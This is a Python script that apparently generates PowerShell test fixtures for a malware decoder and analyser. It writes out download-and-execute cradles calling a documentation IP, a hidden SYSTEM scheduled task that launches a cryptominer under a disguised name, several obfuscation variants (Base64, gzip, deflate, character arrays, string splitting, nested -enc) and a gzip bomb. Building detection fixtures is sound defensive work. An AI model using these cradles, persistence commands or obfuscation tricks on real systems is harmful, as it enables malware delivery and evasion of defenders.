#!/usr/bin/env python3
"""gen_powershell.py OUTDIR — PowerShell fixtures for the decoder and the
PowerShell analyser. Every script is written here; the URLs use
documentation addresses (198.51.100.0/24, example.org) and nothing runs.

  enc_schtask.cmd     powershell -NoP -W Hidden -enc <UTF-16LE Base64> whose
                      payload registers a scheduled task running a miner
  schtasks.bat        schtasks /create ... /tr "powershell -w hidden -enc ..."
  cradle_plain.ps1    IEX (New-Object Net.WebClient).DownloadString(...)
  cradle_utf16.ps1    the same in UTF-16LE with a BOM
  cradle_utf16_nobom.ps1  UTF-16LE without BOM
  gzip_b64.ps1        FromBase64String + GzipStream hiding a cradle
  deflate_b64.ps1     FromBase64String + DeflateStream hiding a cradle
  chararray.ps1       [char[]](73,69,88) -join '' spelling IEX
  concat.ps1          'I'+'EX', 'Net.'+'WebClient', -replace, backticks
  enc_prefix.txt      -EncodedC / en-dash –ec variants in a log line
  benign_admin.ps1    an ordinary admin script: must stay silent
  bad_utf16.ps1       UTF-16LE with lone surrogates around a cradle
  gzip_bomb.ps1       FromBase64String of a gzip of 20 MiB of zeros
  deep.cmd            -enc nested seven times (depth limit)
"""
import base64
import gzip
import os
import sys
import zlib


def enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/run.ps1')"
TASK = ("$a = New-ScheduledTaskAction -Execute 'C:\\ProgramData\\svc\\xmrig.exe' "
        "-Argument '-o stratum+tcp://pool.example.org:3333 -u WALLET --donate-level 1'\n"
        "$t = New-ScheduledTaskTrigger -AtStartup\n"
        "Register-ScheduledTask -TaskName 'WindowsUpdater' -Action $a -Trigger $t "
        "-User 'SYSTEM' -Force\n")

BENIGN = r"""# Weekly maintenance report for the file servers.
param([string]$Server = 'fs' + '01', [string]$Out = 'C:\Reports')

$ErrorActionPreference = 'Stop'
$stamp = Get-Date -Format 'yyyy-MM-dd'
$report = Join-Path $Out ("disk-" + $stamp + ".csv")

Get-PSDrive -PSProvider FileSystem |
    Select-Object Name, @{n='FreeGB';e={[math]::Round($_.Free / 1GB, 1)}} |
    Export-Csv -Path $report -NoTypeInformation -Encoding UTF8

# fetch the latest inventory list (a plain download, not executed)
$url = 'https://intranet.example.org/inventory.csv'
Invoke-WebRequest -Uri $url -OutFile (Join-Path $Out 'inventory.csv') -UseBasicParsing

foreach ($svc in Get-Service -Name 'W32Time', 'Spooler') {
    Write-Host ("{0}: {1}" -f $svc.Name, $svc.Status)
}
Get-Content -Path $report -Encoding UTF8 | Select-Object -First 5
Write-Host "Done: $report, it's saved."
"""


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)

    def put(name, data):
        if isinstance(data, str):
            data = data.encode()
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)

    put("enc_schtask.cmd",
        "@echo off\r\npowershell.exe -NoP -NonI -W Hidden -enc " + enc(TASK) + "\r\n")
    put("schtasks.bat",
        'schtasks /create /tn "OneDrive Sync" /sc onlogon /ru SYSTEM /tr '
        '"powershell -w hidden -ep bypass -enc ' + enc(CRADLE) + '"\r\n')
    put("cradle_plain.ps1", CRADLE + "\n")
    put("cradle_utf16.ps1", b"\xff\xfe" + (CRADLE + "\r\n").encode("utf-16-le"))
    put("cradle_utf16_nobom.ps1", (CRADLE + "\r\n").encode("utf-16-le"))
    gz = base64.b64encode(gzip.compress(CRADLE.encode(), mtime=0)).decode()
    put("gzip_b64.ps1",
        "$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gz + "'))\n"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, "
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n")
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = co.compress(CRADLE.encode()) + co.flush()
    put("deflate_b64.ps1",
        "&(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        "[IO.MemoryStream][Convert]::FromBase64String('" + base64.b64encode(raw).decode() +
        "'), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII))"
        ".ReadToEnd() | Out-Null\n")
    put("chararray.ps1",
        "$x = [char[]](73,69,88) -join ''\n"
        "& $x ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'))\n"
        "& ([char]73+[char]69+[char]0x58) 'Write-Output 1'\n")
    put("concat.ps1",
        "$w = New-Object ('Net.'+'Web'+'Client')\n"
        "$d = $w.('Down'+'loadStr'+'ing').Invoke('http://198.51.100.7/s')\n"
        "& ('IQEQX' -replace 'Q','') $d\n"
        "I`N`V`o`K`e-ExPrEsSiOn $d\n")
    put("enc_prefix.txt",
        "2024-01-01 proc: powershell.exe -EncodedC " + enc("Write-Output 'a'; " + CRADLE) +
        "\n2024-01-01 proc: pwsh \u2013ec " + enc("Get-Date") + "\n")
    put("benign_admin.ps1", BENIGN)
    bad = (CRADLE + "\r\n").encode("utf-16-le")
    put("bad_utf16.ps1", b"\xff\xfe" + b"\x00\xd8 \x00" + bad + b"\x00\xdc" + b"\x00")
    bomb = base64.b64encode(gzip.compress(b"\0" * (20 << 20), mtime=0)).decode()
    put("gzip_bomb.ps1",
        "$s = [Convert]::FromBase64String('" + bomb + "')\n"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
        "(New-Object IO.MemoryStream(,$s)), 0))).ReadToEnd()\n")
    inner = "Write-Output 'deepest'"
    for _ in range(7):
        inner = "powershell -enc " + enc(inner)
    put("deep.cmd", inner + "\r\n")


FIXED_TIME = 1700000000  # alerts carry the file's mtime as @timestamp


def fix_times(out):
    for root, dirs, files in os.walk(out):
        for n in files + dirs:
            os.utime(os.path.join(root, n), (FIXED_TIME, FIXED_TIME))


if __name__ == "__main__":
    main()
    fix_times(sys.argv[1])
